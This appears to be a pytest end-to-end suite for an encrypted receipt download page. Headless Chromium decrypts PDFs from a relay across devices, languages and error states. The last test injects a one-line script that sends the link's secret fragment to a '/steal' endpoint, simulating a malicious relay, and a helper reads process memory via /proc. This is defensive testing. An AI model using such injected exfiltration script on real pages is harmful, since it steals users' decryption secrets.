"""The blind download page in real headless Chromium, against real relay (and device) processes on loopback.

The customer's phone opens ``<relay>/r#<secret>``: the page derives the object id and key in the browser,
fetches ciphertext, decrypts and hands over the PDF. Proven here: the exact bytes (SHA-256) with a proper
file name, on a desktop, an Android and an iPhone profile; a receipt that arrives after the page opened; expiry;
a damaged object; an altered link; the five languages; no JavaScript; the test vectors. And the relay never
holds the secret or the plaintext: its storage, its log, every request the browser sent, and its memory.
"""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest

from relay.crypto import Signer, link, new_secret, parse_token
from tests.conftest import REPO, Appliance, samples, wait_for
from tests.e2e.chromium import chromium
from tests.relay.conftest import RelayProc

PDF = next(p for p in samples("pdf") if "password" not in p.name and "encrypt" not in p.name).read_bytes()
VECTORS = json.loads((REPO / "docs" / "blind-link-vectors.json").read_text())
ZONE = "Europe/Paris"
PROFILES: dict[str, dict[str, Any]] = {  # as Playwright's device descriptors give them
    "Pixel 5": {"user_agent": "Mozilla/5.0 (Linux; Android 11; Pixel 5) AppleWebKit/537.36 (KHTML, like Gecko) "
                              "Chrome/120.0.0.0 Mobile Safari/537.36",
                "viewport": {"width": 393, "height": 727}, "device_scale_factor": 2.75, "is_mobile": True,
                "has_touch": True},
    "iPhone 13": {"user_agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) AppleWebKit/605.1.15 "
                                "(KHTML, like Gecko) Version/15.0 Mobile/15E148 Safari/604.1",
                  "viewport": {"width": 390, "height": 664}, "device_scale_factor": 3, "is_mobile": True,
                  "has_touch": True},
}


def _key_pem() -> bytes:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    return ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())


def _upload(relay: RelayProc, secret: str, pdf: bytes, lifetime: int = 3600) -> None:
    """Upload ``pdf`` sealed under ``secret`` as a device does (signed PUT), with a throwaway device key."""
    keys = parse_token(secret)
    sealed = keys.seal(pdf)
    path = f"/api/v1/receipts/{keys.rid}"
    headers = Signer(_key_pem()).headers("PUT", path, sealed, expires=int(time.time()) + lifetime)
    r = httpx.put(relay.url + path, content=sealed, headers=headers)
    assert r.status_code == 201, r.text


def _file_day(secret: str) -> str:
    return datetime.fromtimestamp(parse_token(secret).issued, ZoneInfo(ZONE)).strftime("%Y-%m-%d")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as running:
        yield running


class Phone:
    """A browser context as a phone: every request it sends and every console message are recorded."""

    def __init__(self, browser: Any, profile: str | None = None, locale: str = "en-GB",
                 javascript: bool = True) -> None:
        options: dict[str, Any] = PROFILES[profile] if profile is not None else {}
        self.context = browser.new_context(**options, locale=locale, timezone_id=ZONE, accept_downloads=True,
                                           java_script_enabled=javascript)
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.console: list[str] = []
        self.page.on("request", lambda r: self.requests.append(
            " ".join([r.method, r.url, json.dumps(r.headers), r.post_data or ""])))
        self.page.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))

    def state(self) -> str:
        """The page's ``data-state`` ("" while it (re)loads)."""
        return str(self.evaluate("document.body ? document.body.getAttribute('data-state') || '' : ''") or "")

    def evaluate(self, script: str) -> Any:
        """``page.evaluate``, None while a navigation replaces the document."""
        from playwright.sync_api import Error

        try:
            return self.page.evaluate(script)
        except Error as exc:
            if "context was destroyed" in str(exc) or "navigat" in str(exc):
                return None
            raise

    def text(self) -> str:
        return str(self.page.inner_text("main"))

    def download(self, url: str, timeout: float = 20) -> tuple[bytes, str]:
        """Open ``url`` and wait for the PDF the page hands over: ``(bytes, suggested file name)``."""
        with self.page.expect_download(timeout=timeout * 1000) as caught:
            self.page.goto(url)
        download = caught.value
        return Path(download.path()).read_bytes(), download.suggested_filename

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def phone(browser: Any) -> Iterator[Phone]:
    made = Phone(browser)
    yield made
    made.close()


def test_a_customer_gets_the_exact_pdf_and_the_shop_screen_says_downloaded(
    browser: Any, appliance_factory: Any, relay_factory: Any
) -> None:
    relay: RelayProc = relay_factory()
    app: Appliance = appliance_factory("--relay-url", relay.url)
    token = app.pair()
    r = app.api.post("/api/v1/tickets", content=PDF,
                     headers={"Authorization": f"Bearer {token}", "Content-Type": "application/pdf"})
    assert r.status_code == 201, r.text
    url = r.json()["url"]
    secret = url.partition("/r#")[2]
    assert url == f"{relay.url}/r#{secret}"
    wait_for(lambda: httpx.get(app.url + "/healthz").json()["relay"]["sent"] == 1, 15, "the upload")
    health = httpx.get(app.url + "/healthz").json()["relay"]
    assert health["blind_links"] is True and health["page"] == "published"  # the device checked the page
    phone = Phone(browser)
    try:
        data, name = phone.download(url)
        assert hashlib.sha256(data).hexdigest() == hashlib.sha256(PDF).hexdigest()
        assert name == f"receipt-{_file_day(secret)}.pdf"
        assert phone.state() == "ready" and "Open the receipt (PDF)" in phone.text()
        wait_for(lambda: app.display()["scene"] == "downloaded", 15, "the shop's screen to say downloaded")
        assert not [line for line in phone.console if line.startswith("error")], phone.console
        sent = "\n".join(phone.requests)
        assert secret not in sent and parse_token(secret).key.hex() not in sent
        assert all(line.split(" ")[1].startswith(relay.url + "/") for line in phone.requests), phone.requests
    finally:
        phone.close()
    _assert_relay_holds_nothing_secret(relay, [secret], [PDF])


@pytest.mark.parametrize("profile", ["Pixel 5", "iPhone 13"])
def test_phones_get_the_pdf_too(browser: Any, relay_factory: Any, profile: str) -> None:
    """An Android profile downloads under the proper name; on the iPhone profile the page opens the PDF in the
    browser's own viewer (it navigates to it: what iOS Safari shows best, with Share and Save to Files)."""
    relay: RelayProc = relay_factory()
    secret = new_secret()
    _upload(relay, secret, PDF)
    phone = Phone(browser, profile)
    try:
        if profile.startswith("Pixel"):
            data, name = phone.download(link(relay.url, secret))
            assert data == PDF and name == f"receipt-{_file_day(secret)}.pdf"
            return
        # iOS: the page opens the PDF itself (Safari's viewer). The bytes it opens are copied as the page makes
        # its File of them, synchronously: the page's scripts end when it gives way to the viewer (reading the
        # blob asynchronously lost that race on a loaded machine).
        handed: list[bytes] = []
        phone.page.expose_function("handed", lambda data: handed.append(bytes(data)))
        phone.page.add_init_script("""(() => { const Made = window.File;
            window.File = function (parts, name, options) {
                window.handed(Array.from(new Uint8Array(parts[0])));
                return new Made(parts, name, options); }; })();""")
        phone.page.goto(link(relay.url, secret))

        def shown() -> bool:
            return bool(phone.evaluate("location.protocol === 'blob:' && document.contentType === 'application/pdf'"))
        wait_for(shown, 15, "the PDF opened in the browser's viewer")
        wait_for(lambda: bool(handed), 5, "the bytes the page opened")
        assert handed == [PDF]
    finally:
        phone.close()


def test_a_receipt_still_on_its_way_is_waited_for(phone: Phone, relay_factory: Any) -> None:
    relay: RelayProc = relay_factory()
    secret = new_secret()
    phone.page.goto(link(relay.url, secret))
    wait_for(lambda: phone.state() == "pending", 10, "the 'on its way' state")
    assert "on its way" in phone.text()
    with phone.page.expect_download(timeout=20_000) as caught:
        _upload(relay, secret, PDF)  # the device's upload arrives while the page waits
    assert Path(caught.value.path()).read_bytes() == PDF
    assert phone.state() == "ready"


def test_expired_damaged_and_altered_links_say_so(phone: Phone, relay_factory: Any) -> None:
    relay: RelayProc = relay_factory()
    # Expired on the relay: stored with a 3-second lifetime.
    short = new_secret()
    _upload(relay, short, PDF, lifetime=3)
    time.sleep(4)
    phone.page.goto(link(relay.url, short))
    wait_for(lambda: phone.state() == "expired", 10, "the expired state")
    assert "expired" in phone.text()
    # Issued longer ago than any retention: expired, nothing stored.
    phone.page.goto(link(relay.url, new_secret(time.time() - 40 * 86_400)))
    wait_for(lambda: phone.state() == "expired", 10, "the expired state of an old link")
    # A damaged object: one byte of the stored ciphertext flipped.
    damaged = new_secret()
    _upload(relay, damaged, PDF)
    stored = Path(relay.storage) / "o" / parse_token(damaged).rid
    raw = bytearray(stored.read_bytes())
    raw[100] ^= 0x01
    stored.write_bytes(bytes(raw))
    phone.page.goto(link(relay.url, damaged))
    wait_for(lambda: phone.state() == "damaged", 10, "the damaged state")
    assert "damaged" in phone.text()
    assert not phone.page.is_visible("#open")  # no empty button in any state but ready
    # A record whose object is gone: the relay answers 500 receipt-damaged, which no retry mends.
    lost = new_secret()
    _upload(relay, lost, PDF)
    (Path(relay.storage) / "o" / parse_token(lost).rid).unlink()
    phone.page.goto(link(relay.url, lost))
    wait_for(lambda: phone.state() == "damaged", 10, "the damaged state of a lost object")
    # An altered link (one character of the secret changed): the check byte tells, nothing is fetched.
    good = new_secret()
    _upload(relay, good, PDF)
    altered = good[:12] + ("B" if good[12] == "A" else "A") + good[13:]
    before = len(phone.requests)
    phone.page.goto(link(relay.url, good).replace(good, altered))
    wait_for(lambda: phone.state() == "bad-link", 10, "the altered-link state")
    assert "incomplete or damaged" in phone.text()
    assert not [r for r in phone.requests[before:] if "/o/" in r]
    # A link cut short, and one without its secret.
    for broken in (link(relay.url, good)[:-3], relay.url + "/r"):
        phone.page.goto(broken)
        wait_for(lambda: phone.state() == "bad-link", 10, f"the bad-link state for {broken}")


def test_a_relay_without_https_says_so(phone: Phone, relay_factory: Any) -> None:
    """Browsers give WebCrypto to secure origins only (https, and localhost): on a relay reached over plain
    http the page says that the server lacks https, not that the phone's browser is too old."""
    relay: RelayProc = relay_factory()
    secret = new_secret()
    _upload(relay, secret, PDF)
    phone.page.route("http://relay.test/**", lambda route: route.fulfill(
        response=route.fetch(url=route.request.url.replace("http://relay.test", relay.url))))
    phone.page.goto(f"http://relay.test/r#{secret}")
    wait_for(lambda: phone.state() == "insecure", 10, "the insecure-relay state")
    assert "https" in phone.text() and not phone.page.is_visible("#open")


@pytest.mark.parametrize(("locale", "words", "prefix"), [
    ("fr-FR", "Votre ticket est prêt", "ticket"), ("de-DE", "Ihr Beleg ist bereit", "beleg"),
    ("it-IT", "Lo scontrino è pronto", "scontrino"), ("es-ES", "Su ticket está listo", "ticket"),
    ("pt-BR", "Your receipt is ready", "receipt"),
])
def test_the_page_speaks_the_phones_language(
    browser: Any, relay_factory: Any, locale: str, words: str, prefix: str
) -> None:
    relay: RelayProc = relay_factory()
    secret = new_secret()
    _upload(relay, secret, PDF)
    phone = Phone(browser, locale=locale)
    try:
        _data, name = phone.download(link(relay.url, secret))
        assert words in phone.text() and name == f"{prefix}-{_file_day(secret)}.pdf"
        assert phone.page.evaluate("document.documentElement.lang") == (locale[:2] if prefix != "receipt"
                                                                        else "en")
    finally:
        phone.close()


def test_without_javascript_the_page_says_why_it_needs_it(browser: Any, relay_factory: Any) -> None:
    relay: RelayProc = relay_factory()
    phone = Phone(browser, javascript=False, locale="fr-FR")
    try:
        phone.page.goto(link(relay.url, new_secret()))
        text = phone.text()
        assert "This page needs JavaScript: your receipt is encrypted" in text
        assert "Cette page a besoin de JavaScript" in text
    finally:
        phone.close()


def test_the_page_passes_the_test_vectors(phone: Phone, relay_factory: Any) -> None:
    """The page's own derive/open (WebCrypto) give the vectors' ids, keys, nonces and plaintexts; it refuses
    the invalid ones. The relay, given the vectors' sealed bytes, serves them under the same ids."""
    relay: RelayProc = relay_factory()
    phone.page.goto(relay.url + "/r")
    for vector in VECTORS["valid"]:
        got = phone.page.evaluate("""async (v) => {
            const r = window.eticketReceipt, keys = await r.derive(v.secret);
            const sealed = new Uint8Array(v.sealed.match(/../g) ? v.sealed.match(/../g).map(h => parseInt(h, 16)) : []);
            const plain = new Uint8Array(await r.open(keys, sealed));
            return {issued: keys.issued, rid: keys.rid, key: r.hex(keys.key), nonce: r.hex(keys.nonce),
                    plaintext: r.hex(plain)};
        }""", vector)
        assert got == {k: vector[k] for k in ("issued", "rid", "key", "nonce", "plaintext")}
        keys = parse_token(vector["secret"])
        assert (keys.rid, keys.key.hex(), keys.seal(bytes.fromhex(vector["plaintext"])).hex()) == (
            vector["rid"], vector["key"], vector["sealed"])
    for vector in VECTORS["invalid"]:
        refused = phone.page.evaluate("""async (s) => {
            try { await window.eticketReceipt.derive(s); return "accepted"; } catch (e) { return e.message; }
        }""", vector["secret"])
        assert refused == "bad-link", vector
    # The relay: a vector's sealed bytes uploaded under its rid come back as they are, by that id.
    vector = VECTORS["valid"][1]
    signer = Signer(_key_pem())
    sealed = bytes.fromhex(vector["sealed"])
    path = f"/api/v1/receipts/{vector['rid']}"
    r = httpx.put(relay.url + path, content=sealed,
                  headers=signer.headers("PUT", path, sealed, expires=int(time.time()) + 60))
    assert r.status_code == 201, r.text
    assert httpx.get(f"{relay.url}/o/{vector['rid']}").content == sealed


def _assert_relay_holds_nothing_secret(relay: RelayProc, secrets: list[str], pdfs: list[bytes]) -> None:
    """Neither the secret (as text), nor its AES key, nor any 64-byte run of a plaintext is in the relay's
    storage, its log, or its process memory (read from /proc as root)."""
    stored = b"".join(p.read_bytes() for p in Path(relay.storage).rglob("*") if p.is_file())
    assert stored, "the relay stored nothing"
    memory = _process_memory(relay.proc.pid) if relay.proc is not None else b""
    assert memory, "the relay's memory could not be read"
    logs = relay.logs().encode()
    for where, blob in (("storage", stored), ("log", logs), ("memory", memory)):
        for secret in secrets:
            keys = parse_token(secret)
            assert secret.encode() not in blob, f"the secret is in the relay's {where}"
            assert keys.key not in blob, f"the receipt key is in the relay's {where}"
        for pdf in pdfs:
            assert b"%PDF-" not in blob or where != "storage"
            for offset in range(0, max(1, len(pdf) - 64), max(1, len(pdf) // 16)):
                assert pdf[offset:offset + 64] not in blob, f"plaintext at offset {offset} in the relay's {where}"


def _process_memory(pid: int) -> bytes:
    chunks = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5].startswith("[v")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                chunks.append(mem.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
    return b"".join(chunks)


def test_check_page_tells_the_published_page_from_a_doctored_one(relay_factory: Any, tmp_path: Path) -> None:
    """`eticket relay check-page URL`: 0 for a real relay; 1 for a server whose page reads the fragment out
    (what a malicious relay operator would serve), naming the hash it found; 2 when nothing answers."""
    import http.server
    import subprocess
    import threading

    from relay.page import PAGE, PAGE_SHA256
    from tests.conftest import ETICKET, free_port

    relay: RelayProc = relay_factory()
    good = subprocess.run([*ETICKET, "relay", "check-page", relay.url], capture_output=True, text=True, cwd=REPO)
    assert good.returncode == 0 and PAGE_SHA256 in good.stdout, good.stdout + good.stderr

    doctored = PAGE.replace(b"<script>", b"<script>new Image().src='/steal?'+location.hash;", 1)

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(doctored)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        evil_url = f"http://127.0.0.1:{server.server_address[1]}"
        bad = subprocess.run([*ETICKET, "relay", "check-page", evil_url, "--json"], capture_output=True, text=True,
                             cwd=REPO)
        assert bad.returncode == 1, bad.stdout + bad.stderr
        report = json.loads(bad.stdout)
        assert not report["ok"] and report["sha256"] == hashlib.sha256(doctored).hexdigest()
        assert any("Content-Security-Policy" in fault for fault in report["faults"])
    finally:
        server.shutdown()
    gone = subprocess.run([*ETICKET, "relay", "check-page", f"http://127.0.0.1:{free_port()}"],
                          capture_output=True, text=True, cwd=REPO)
    assert gone.returncode == 2 and "cannot be reached" in gone.stderr
